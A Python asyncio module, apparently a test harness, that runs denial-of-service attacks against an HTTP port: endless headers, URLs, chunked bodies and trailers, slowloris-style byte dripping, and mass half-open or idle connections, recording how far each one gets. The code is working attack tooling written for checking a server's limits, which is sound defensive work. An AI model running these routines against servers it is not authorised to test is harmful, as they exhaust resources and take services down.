"""Attacks on an HTTP port by a client without a key. Each says how far it came; none judges."""

import asyncio
import contextlib
import ssl
import time
from collections import Counter
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field

CHUNK = 64 * 2**10
"""Bytes written at once."""

ANSWER_SECONDS = 30.0
"""Longest wait for an answer, or for the port to close a connection."""


@dataclass(frozen=True, slots=True)
class Door:
    """A port under attack."""

    host: str
    port: int
    tls: ssl.SSLContext | None = None
    source: str | None = None
    """Address to attack from; every 127.x.y.z is one of this machine on Linux."""


@dataclass(frozen=True, slots=True)
class Sent:
    """One connection's attempt."""

    size: int
    """Bytes written before the port closed the connection or the attack ended; some of them may lie in buffers."""
    status: int | None
    """Status of the answer; None for a connection closed without one."""
    answer: bytes
    """Start of the answer, at most 64 KiB."""
    closed: bool
    """True if the port closed the connection."""


@dataclass(frozen=True, slots=True)
class Held:
    """Many connections' attempt to stay open."""

    opened: int
    left: int
    """Connections still open at the end."""
    statuses: Counter[int | None] = field(default_factory=Counter)
    """Answers to closed connections."""
    left_statuses: Counter[int | None] = field(default_factory=Counter)
    """Answers to those still open; None also for an answer that is no HTTP."""
    left_silent: int = 0
    """Connections still open that had no byte of an answer."""
    refused: int = 0
    """Connections that could not be opened. They are among `statuses`, with None."""


def get(path: str = "/healthz", *headers: str) -> bytes:
    """Returns a whole request without a body."""
    return "\r\n".join([f"GET {path} HTTP/1.1", "host: door", *headers, "", ""]).encode()


def post(path: str, *headers: str) -> bytes:
    """Returns the head of a request with a body."""
    return "\r\n".join([f"POST {path} HTTP/1.1", "host: door", *headers, "", ""]).encode()


async def endless_header(door: Door, limit: int = 16 * 2**20) -> Sent:
    """Sends one header's value without end, up to `limit` bytes."""
    return await pour(door, b"GET /healthz HTTP/1.1\r\nhost: door\r\nx-endless: ", b"a" * CHUNK, limit)


async def many_headers(door: Door, limit: int = 16 * 2**20) -> Sent:
    """Sends small headers without end, up to `limit` bytes."""
    line = b"x-small: 1\r\n"
    return await pour(door, b"GET /healthz HTTP/1.1\r\nhost: door\r\n", line * (CHUNK // len(line)), limit)


async def endless_request_line(door: Door, limit: int = 16 * 2**20) -> Sent:
    """Sends a URL without end, up to `limit` bytes."""
    return await pour(door, b"GET /healthz?", b"a" * CHUNK, limit)


async def endless_body(door: Door, path: str, *headers: str, limit: int = 400 * 2**20) -> Sent:
    """Sends a chunked body without end, up to `limit` bytes; `headers` may carry a key."""
    chunk = b"%x\r\n%s\r\n" % (CHUNK, b"a" * CHUNK)
    return await pour(door, post(path, "transfer-encoding: chunked", *headers), chunk, limit)


async def endless_trailer(door: Door, path: str, *headers: str, limit: int = 16 * 2**20) -> Sent:
    """Sends a trailer behind a chunked body without end, up to `limit` bytes."""
    head = post(path, "transfer-encoding: chunked", *headers) + b"1\r\na\r\n0\r\nx-endless: "
    return await pour(door, head, b"a" * CHUNK, limit)


async def half_sent(door: Door, count: int, seconds: float, begun: bytes = b"GET /healthz HTTP/1.1\r\nhost: d") -> Held:
    """Opens connections that send `begun` and nothing more; waits `seconds` at most for the port to close them all."""
    return await hold(door, count, seconds, begun, None)


async def slow_headers(door: Door, count: int, seconds: float, pause: float = 0.5) -> Held:
    """Opens connections like `half_sent`, each of which sends one more byte of a header every `pause` seconds."""
    return await hold(door, count, seconds, b"GET /healthz HTTP/1.1\r\nx-slow: ", pause)


async def slow_body(door: Door, path: str, count: int, seconds: float, *headers: str, pause: float = 0.5) -> Held:
    """Opens requests whose bodies arrive byte by byte; `headers` may carry a key."""
    return await hold(door, count, seconds, post(path, "content-length: 1000000", *headers), pause)


async def idle(door: Door, count: int, seconds: float) -> Held:
    """Opens connections that have one request answered and stay; waits `seconds` at most until all are closed."""
    return await hold(door, count, seconds, get(), None)


async def status_of(door: Door, request: bytes | None = None) -> int | None:
    """Sends one whole request as an ordinary client and returns the status; None where none came."""
    try:
        async with connected(door) as (reader, writer):
            writer.write(request or get())
            return _status(await asyncio.wait_for(reader.read(CHUNK), ANSWER_SECONDS))
    except OSError:
        return None


@dataclass(frozen=True, slots=True)
class Ending:
    """End of a stream that the port does not end: the last bytes to write, and which answer is a whole one."""

    last: bytes = b""
    is_whole: Callable[[bytes], bool] = lambda _: False
    seconds: float = ANSWER_SECONDS
    """Longest wait for the answer, or for the port to close the connection."""


_NONE = Ending()


async def pour(door: Door, head: bytes, piece: bytes, limit: int, ending: Ending = _NONE) -> Sent:
    """Writes `piece` again and again up to `limit` bytes, while it reads what the port says."""
    async with connected(door) as (reader, writer):
        answer = asyncio.ensure_future(_read(reader, ending.is_whole))
        sent, failed = 0, False
        try:
            writer.write(head)
            while sent < limit and not failed:
                writer.write(piece)
                sent += len(piece)
                draining = asyncio.ensure_future(writer.drain())
                await asyncio.wait((draining, answer), return_when=asyncio.FIRST_COMPLETED)
                if answer.done():
                    draining.cancel()
                    failed = True
                with contextlib.suppress(asyncio.CancelledError):
                    await draining
            writer.write(ending.last)
        except OSError:
            failed = True
        done, _ = await asyncio.wait((answer,), timeout=ending.seconds)
        if not done:
            answer.cancel()
            return Sent(sent, None, b"", closed=False)
        text, closed = answer.result()
        return Sent(sent, _status(text), text, closed)


async def _read(reader: asyncio.StreamReader, is_whole: Callable[[bytes], bool]) -> tuple[bytes, bool]:
    """Returns the answer, 64 KiB of it at most, and whether the connection ended."""
    kept = bytearray()
    ended = await _read_into(reader, kept, is_whole)
    return bytes(kept), ended


async def _read_into(
    reader: asyncio.StreamReader, kept: bytearray, is_whole: Callable[[bytes], bool] = _NONE.is_whole
) -> bool:
    """Returns whether the connection ended; it has not where the answer is whole."""
    with contextlib.suppress(OSError):
        while piece := await reader.read(CHUNK):
            kept += piece[: CHUNK - len(kept)]
            if is_whole(bytes(kept)):
                return False
    return True


async def hold(door: Door, count: int, seconds: float, begun: bytes, pause: float | None) -> Held:
    """Opens `count` connections that send `begun`, then a byte every `pause` seconds, or nothing where it is None."""
    until = time.monotonic() + seconds
    outcomes = await asyncio.gather(*(_held(door, begun, pause, until) for _ in range(count)))
    left = [each.answer for each in outcomes if each.open]
    return Held(
        count,
        len(left),
        Counter(_last_status(each.answer) for each in outcomes if not each.open),
        Counter(map(_last_status, left)),
        sum(not answer for answer in left),
        sum(each.refused for each in outcomes),
    )


@dataclass(frozen=True, slots=True)
class _End:
    """The end of one connection."""

    answer: bytes = b""
    open: bool = False
    refused: bool = False


async def _held(door: Door, begun: bytes, pause: float | None, until: float) -> _End:
    """Returns the answer, once the port has closed the connection or the time is over."""
    answer = bytearray()
    opened = False
    try:
        async with connected(door) as (reader, writer):
            opened = True
            writer.write(begun)
            dripping = asyncio.create_task(_drip(writer, pause)) if pause is not None else None
            try:
                await asyncio.wait_for(_read_into(reader, answer), max(0.0, until - time.monotonic()))
            except TimeoutError:
                return _End(bytes(answer), open=True)
            finally:
                if dripping is not None:
                    dripping.cancel()
    except OSError:
        return _End(bytes(answer), refused=not opened)
    return _End(bytes(answer))


async def _drip(writer: asyncio.StreamWriter, pause: float) -> None:
    with contextlib.suppress(OSError):
        while True:
            writer.write(b"a")
            await writer.drain()
            await asyncio.sleep(pause)


@asynccontextmanager
async def connected(door: Door) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    local = (door.source, 0) if door.source is not None else None
    reader, writer = await asyncio.open_connection(door.host, door.port, ssl=door.tls, local_addr=local)
    try:
        yield reader, writer
    finally:
        # Not waited for: a port that does not read would hold up the attacker.
        writer.transport.abort()


def _status(answer: bytes) -> int | None:
    return next(_statuses(answer), None)


def _last_status(answer: bytes) -> int | None:
    return next(iter(reversed(list(_statuses(answer)))), None)


def _statuses(answer: bytes) -> Iterator[int]:
    for line in answer.split(b"\r\n"):
        if line.startswith(b"HTTP/1."):
            yield int(line.split()[1])
